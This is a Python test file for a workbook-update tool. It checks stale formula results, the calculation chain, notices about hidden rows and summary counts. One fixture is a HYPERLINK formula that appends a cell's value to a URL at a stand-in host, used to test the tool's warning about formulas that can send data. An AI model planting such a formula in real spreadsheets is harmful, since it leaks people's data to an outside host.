"""A whole update of a small workbook: which results and orders get old, and what is told of whom."""

from __future__ import annotations

import re
from collections.abc import Sequence
from io import BytesIO

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.ooxml.test_update_summary_accounts import made
from tests.ooxml.update_files import (
    ANN,
    ANN_ROW,
    BOB,
    BOB_ROW,
    EVE,
    HEADER,
    SHEET,
    TABLE,
    Rows,
    book,
    contact,
    fresh,
    parts,
    read,
    replaced,
    updated,
)
from workbook.contacts.contact import Contact
from workbook.errors import WrongUsage
from workbook.merge.model import Arrival, Missing, TableMemory, UpdateOptions, UpdateReport
from workbook.ooxml import libreoffice
from workbook.ooxml.workbook_file import opened, update, update_all

ANNA = contact(1, "Anna")
CHAIN, WORKBOOK = "xl/calcChain.xml", "xl/workbook.xml"
ROWS = (ANN_ROW, BOB_ROW)


def with_results(cells: dict[str, str], rows: Rows = ROWS, at: str = "A1", name: str = "") -> bytes:
    """Return a workbook with formulas beside the table, each with the result 7, and a sheet more."""

    def dress(sheet: Worksheet) -> None:
        for place, formula in cells.items():
            sheet[place] = f"={formula}"
        assert sheet.parent is not None
        sheet.parent.create_sheet(name or "Other")

    plain = re.compile(r"<v\s*/>|<v></v>")
    return replaced(
        book(rows, at=at, dress=dress),
        {
            SHEET: lambda text: plain.sub("<v>7</v>", text),
            WORKBOOK: lambda text: text.replace(' fullCalcOnLoad="1"', ""),
        },
    )


def stale(data: bytes) -> list[str]:
    """Return the cells whose result is gone."""
    formulas, values = (load_workbook(BytesIO(data), data_only=only) for only in (False, True))
    return [
        cell.coordinate
        for row in formulas["Contacts"].iter_rows()
        for cell in row
        if cell.data_type == "f" and values["Contacts"][cell.coordinate].value is None
    ]


def with_chain(data: bytes) -> bytes:
    """Return a workbook in which Excel keeps an order of calculation."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/calcChain"
    arrow = f'<Relationship Id="rId99" Type="{rel}" Target="calcChain.xml"/></Relationships>'
    return replaced(
        data,
        {
            CHAIN: lambda _: "<calcChain/>",
            "xl/_rels/workbook.xml.rels": lambda text: text.replace("</Relationships>", arrow),
            WORKBOOK: lambda text: text.replace(' fullCalcOnLoad="1"', ""),
        },
    )


class TestOldResults:
    def test_are_those_that_read_a_cell_that_changed_and_no_others(self) -> None:
        there = with_results({"I1": "D5", "I2": "C5", "I3": "E5", "I4": "D4", "I9": "D6"}, at="C4")
        assert stale(updated(there, ANNA, BOB)[0]) == ["I1"]

    def test_are_told_in_every_row(self) -> None:
        there = with_results({"G1": "B2", "I1": "B3", "I9": "B1"})
        assert stale(updated(there, ANN, contact(2, "Bo"))[0]) == ["I1"]

    def test_are_those_that_read_our_sheet_of_numbers(self) -> None:
        cell = '<c r="H1"><f>Summary!A1</f><v>7</v></c></row>'
        there = replaced(
            made(work=[ANN], home=[BOB]), {SHEET: lambda text: text.replace("</row>", cell, 1)}
        )
        assert stale(there) == []
        assert stale(_of_lists(there, work=[ANN, EVE], home=[BOB])) == ["H1"]

    def test_are_those_that_read_a_new_row_and_no_others(self) -> None:
        there = with_results({"G1": "B4", "G2": "B3", "G3": "B5", "G4": "E4", "G5": "F4"})
        assert stale(updated(there, ANN, BOB, EVE)[0]) == ["G1", "G4"]

    def test_are_those_that_read_any_of_several_new_rows(self) -> None:
        cells = {f"G{row}": f"B{row}" for row in (3, 4, 5, 6, 7)}
        three = [contact(n, "x") for n in (4, 5, 6)]
        assert stale(updated(with_results(cells), ANN, BOB, *three)[0]) == ["G4", "G5", "G6"]

    def test_are_not_those_that_read_a_sheet_of_the_users_own(self) -> None:
        there = with_results({"G1": "Summary!A1", "G2": "B2"}, name="Summary")
        assert stale(updated(there, ANNA, BOB)[0]) == ["G2"]

    @pytest.mark.parametrize("cell", ["B2", "H9"])
    def test_are_computed_only_where_there_are_some(
        self, cell: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(libreoffice, "program", lambda: None)
        there = opened(BytesIO(with_results({"G1": cell})))
        told = update(there, BytesIO(), fresh(ANNA, BOB), recalculate=True).notices
        assert any("LibreOffice is not installed" in each for each in told) == (cell == "B2")


class TestTheOrderOfCalculation:
    def test_is_made_anew_where_formulas_went_down(self) -> None:
        sums = replaced(
            with_chain(book((*ROWS, ("sum", None, None, None, "=1")))),
            {TABLE: lambda text: text.replace(" id=", ' totalsRowCount="1" id=', 1)},
        )
        assert CHAIN not in parts(updated(sums, ANN, BOB, EVE)[0])
        assert CHAIN in parts(updated(sums, ANNA, BOB)[0])

    def test_stays_where_new_rows_have_no_formula(self) -> None:
        assert CHAIN in parts(updated(with_chain(with_results({"G1": "B2"})), ANN, BOB, EVE)[0])

    @pytest.mark.parametrize("data", [with_results({"G1": "H1"}), with_chain(book())])
    def test_is_followed_on_opening_where_there_may_be_formulas(self, data: bytes) -> None:
        assert b'fullCalcOnLoad="1"' in parts(updated(data, ANNA, BOB)[0])[WORKBOOK]


class TestNewRows:
    @pytest.mark.parametrize(
        ("hidden", "told"),
        [
            ([3, 5], ""),
            ([4], "1 new person is in hidden rows: 4."),
            ([2, 3, 4, 5], "1 new person is in hidden rows: 4."),
        ],
    )
    def test_are_those_below_the_table_as_it_was(self, hidden: list[int], told: str) -> None:
        def hide(sheet: Worksheet) -> None:
            for row in hidden:
                sheet.row_dimensions[row].hidden = True

        notices = updated(book(dress=hide), ANN, BOB, EVE)[1].notices
        assert [each.partition(" To see")[0] for each in notices] == [told] * bool(told)

    def test_may_be_blank_ones_of_the_table(self) -> None:
        def hide(sheet: Worksheet) -> None:
            sheet.row_dimensions[4].hidden = True

        notices = updated(book((*ROWS, ()), dress=hide), ANN, BOB, EVE)[1].notices
        assert notices[0].startswith("1 new person is in hidden rows: 4.")


def _of_lists(data: bytes, **lists: Sequence[Contact]) -> bytes:
    """Return a workbook of several accounts brought up to date with nothing but their lists."""
    out = BytesIO()
    memory = TableMemory(written=("account", *HEADER[:-1]))
    arrivals = [Arrival(fresh(*people, account=alias), memory) for alias, people in lists.items()]
    update_all(opened(BytesIO(data)), out, arrivals)
    return out.getvalue()


def test_the_numbers_are_those_of_the_lists_where_nothing_else_is_known() -> None:
    after = _of_lists(made(work=[ANN], home=[BOB]), work=[ANN, EVE], home=[BOB])
    numbers = {line[0]: line[1] for line in read(after, "Summary")}
    assert (numbers["work"], numbers["home"], numbers["All accounts"]) == ("2", "1", "3")


LISTS = {"work": ANN, "home": BOB}
SENDS = '=HYPERLINK("https://x.example/"&B2)'


def of_several(
    rows: Rows, *by_us: bool, header: Sequence[str] = HEADER
) -> tuple[bytes, UpdateReport]:
    """Return a workbook of two accounts brought up to date, and the report."""
    titles, out = ("account", *header), BytesIO()
    data = book(rows, titles, formulas={"photo": SENDS[1:]} if "photo" in header else {})
    arrivals = [
        Arrival(fresh(person, EVE, account=alias), TableMemory(written=titles, made=ours))
        for (alias, person), ours in zip(LISTS.items(), by_us, strict=True)
    ]
    return out.getvalue(), update_all(opened(BytesIO(data)), out, arrivals)


@pytest.mark.parametrize(
    ("by_us", "kept_out"), [((True, True), False), ((True, False), True), ((False, True), True)]
)
def test_a_workbook_is_ours_only_where_we_made_it_for_all(
    by_us: tuple[bool, bool], kept_out: bool
) -> None:
    rows = [("work", *ANN_ROW, SENDS), ("home", *BOB_ROW, SENDS)]
    _, report = of_several(rows, *by_us, header=(*HEADER, "photo"))
    assert report.new == 2
    assert any("it can send" in each for each in report.notices) == kept_out


def test_rows_are_taken_away_by_excel_alone() -> None:
    for missing in (Missing.KEEP, Missing.MARK):
        assert updated(book(), ANNA, BOB, options=UpdateOptions(missing=missing))[1].changed == 1
    with pytest.raises(WrongUsage, match="Rows are removed in Excel only"):
        updated(book(), ANNA, BOB, options=UpdateOptions(missing=Missing.REMOVE))


def test_what_was_written_is_said_to_be() -> None:
    after, report = updated(book(), ANNA, BOB)
    assert report.written is True
    assert read(after)[1][1] == "Anna"
    assert updated(after, ANNA, BOB)[1].written is False
